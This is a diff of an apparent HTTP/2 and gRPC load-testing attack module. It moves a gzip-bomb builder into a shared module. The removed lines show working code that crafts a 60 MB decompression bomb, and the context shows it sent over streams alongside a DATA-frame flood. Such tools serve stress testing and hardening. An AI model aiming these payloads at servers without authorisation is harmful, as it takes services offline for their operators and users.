@@ -2,14 +2,13 @@
 
 from __future__ import annotations
 
-import functools
 import itertools
 import time
-import zlib
 from collections.abc import Iterator
 
 from loadtest.attacks import frames
 from loadtest.attacks.attacker import Attacker, Conn, repeated
+from loadtest.attacks.bombs import gzipped_zeros
 from loadtest.attacks.frames import ACK, CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY
 
 # Streams that an attack opens on one connection; servers allow 100 to 1000.
@@ -291,22 +290,12 @@ def many_messages(attacker: Attacker) -> None:
     attacker.flood(repeated(frames.frame(DATA, 0, 1, bytes(5) * 3000)), conn)
 
 
-def _gzipped_zeros(mebibytes: int) -> bytes:
-    """Returns zeros in gzip's format; one compressed block is repeated, as packing all would take the attack's time."""
-    zeros = bytes(1 << 20)
-    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
-    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
-    crc = functools.reduce(lambda crc, _: zlib.crc32(zeros, crc), range(mebibytes), 0)
-    head, end = b"\x1f\x8b\x08" + bytes(6) + b"\xff", b"\x03\x00"
-    return head + block * mebibytes + end + crc.to_bytes(4, "little") + (mebibytes << 20).to_bytes(4, "little")
-
-
 _REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
 
 
 def _gzip_bombs(attacker: Attacker, begun: bytes = b"", path: str = "") -> None:
     """Calls a method on one stream after another; `begun` comes in front of a message that inflates to 60 MB."""
-    bomb = _gzipped_zeros(60)
+    bomb = gzipped_zeros(60)
     body = begun + b"\1" + len(bomb).to_bytes(4) + bomb
     parts = [body[at : at + 16384] for at in range(0, len(body), 16384)]
     head = attacker.target.fields((b"grpc-encoding", b"gzip"), path=path)
